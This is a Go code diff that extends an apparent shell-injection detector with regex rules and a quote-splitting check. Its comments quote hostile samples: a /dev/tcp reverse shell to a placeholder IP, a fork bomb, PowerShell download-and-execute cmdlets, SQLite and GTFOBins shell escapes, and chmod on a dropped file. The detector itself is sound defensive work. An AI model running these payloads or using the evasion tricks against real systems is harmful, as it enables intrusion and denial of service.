@@ -213,6 +213,34 @@ var shellConstruct = []struct {
 		return strings.Contains(s, "<(") || strings.Contains(s, ">(") || strings.Contains(s, "$((")
 	},
 		regexp.MustCompile(`(?:^|[\s;|&])[<>]\(\s*[a-z]{2,}[^)]*\)|\$\(\(`)},
+	// Bash reverse shell through a /dev/tcp path held in a variable
+	// (d=/dev&&sh 0>$d/tcp/1.2.3.4/777).
+	{func(s string) bool { return strings.Contains(s, "/tcp/") }, regexp.MustCompile(`/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d{1,5}`)},
+	// The login shell run through its variable ($SHELL -c "cmd").
+	{func(s string) bool { return strings.Contains(s, "shell") }, regexp.MustCompile(`\$\{?shell\}?\s+-c\b`)},
+	// Brace expansion with an empty first element, which runs the words
+	// that follow as a command ({,ifconfig}, {,cd,/etc,}).
+	{func(s string) bool { return strings.Contains(s, "{,") }, regexp.MustCompile(`(?:^|[\s;|&])\{,[^{}\s,]+(?:,[^{}\s]*)?\}`)},
+	// Fork bombs with a named function (f(){ f & f; };f).
+	{func(s string) bool { return strings.Contains(s, "(){") || strings.Contains(s, "() {") },
+		regexp.MustCompile(`\w\(\)\s*\{\s*\w+(?:\(\))?\s*[|&]\s*\w+(?:\(\))?\s*;?\s*\}\s*;\s*\w`)},
+	// PowerShell download and execution cmdlets and their aliases.
+	{func(s string) bool { return strings.Contains(s, "invoke-") || strings.Contains(s, "iw") },
+		regexp.MustCompile(`\binvoke-(?:webrequest|expression|restmethod|wmimethod)\b|(?:^|[;&|]\s*)(?:iwr|iwmi)\s+(?:https?://|-\w)`)},
+	// SQLite shell dot-commands that run a program (;.shell nc …).
+	{func(s string) bool { return strings.Contains(s, ".s") },
+		regexp.MustCompile(`;\s*(?:\\n)?\s*\.\s*(?:\\?['"])?(?:shell|system|sh)\s+\w`)},
+	// GTFOBins escapes that run a shell through a compiler or debugger
+	// (c89 -wrapper sh,-c,id; gdb -ex '!id').
+	{func(s string) bool { return strings.Contains(s, "-wrapper") || strings.Contains(s, "-ex") },
+		regexp.MustCompile(`-wrapper\s+(?:/bin/)?(?:ba)?sh,-c,|\bgdb\s+(?:-\w+\s+)*-ex\s+['"]?\\?!`)},
+	// Making a dropped file executable (;chmod +x evil.php).
+	{func(s string) bool { return strings.Contains(s, "chmod") },
+		regexp.MustCompile(`(?:^|[;&|]\s*)chmod\s+(?:[+][rwxs]+|[0-7]{3,4})\s+\S`)},
+	// Walking to a system directory in steps to avoid its path
+	// (cd /;cd etc;…).
+	{func(s string) bool { return strings.Contains(s, "cd") },
+		regexp.MustCompile(`\bcd\s+/\s*;\s*cd\s+(?:etc|bin|tmp|var|root)\b`)},
 }
 
 // globHint is the glob pattern's prefilter: a wildcard or a bracket next
@@ -354,10 +382,22 @@ var shellNoise = strings.NewReplacer("'", "", "\"", "", "\\", "", "$@", "", "$*"
 func deshell(s string) string {
 	// Quotes and backslashes in a value without a separator or a
 	// substitution run no command.
-	if !strings.ContainsAny(s, "'\"\\$`") || !strings.ContainsAny(s, ";|&\n\r`$") {
+	if !strings.ContainsAny(s, "'\"\\$`") || !strings.ContainsAny(s, ";|&\n\r`$") && !quoteInWord(s) {
 		return s
 	}
 	return shellNoise.Replace(s)
+}
+
+// quoteInWord reports whether a quote sits between two letters or after
+// another quote inside a word (ti”me, c'a't, /bin/ca't'): quote splitting
+// that hides a command name even without a separator.
+func quoteInWord(s string) bool {
+	for i := 1; i+1 < len(s); i++ {
+		if (s[i] == '\'' || s[i] == '"') && 'a' <= s[i-1] && s[i-1] <= 'z' && (s[i+1] == s[i] || 'a' <= s[i+1] && s[i+1] <= 'z') {
+			return true
+		}
+	}
+	return false
 }
 
 // knownAfterSep is cmdSep's cheap prefilter: whether a known command
